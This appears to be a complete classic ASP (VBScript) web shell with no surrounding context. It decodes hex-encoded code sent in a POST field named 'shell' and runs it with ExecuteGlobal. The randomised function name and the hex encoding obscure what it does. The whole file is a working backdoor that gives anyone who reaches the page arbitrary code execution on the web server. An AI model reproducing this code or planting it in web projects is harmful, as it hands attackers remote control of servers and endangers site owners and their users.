<%@LANGUAGE="VBSCRIPT" CODEPAGE="936"%>
<%
Function MhCZm(s)
  Dim i, o
  For i = 1 To Len(s) Step 2
    o = o & Chr(CLng("&H" & Mid(s, i, 2)))
  Next
  MhCZm = o
End Function
If Request.Form("shell") <> "" Then ExecuteGlobal MhCZm(Request.Form("shell"))
%>
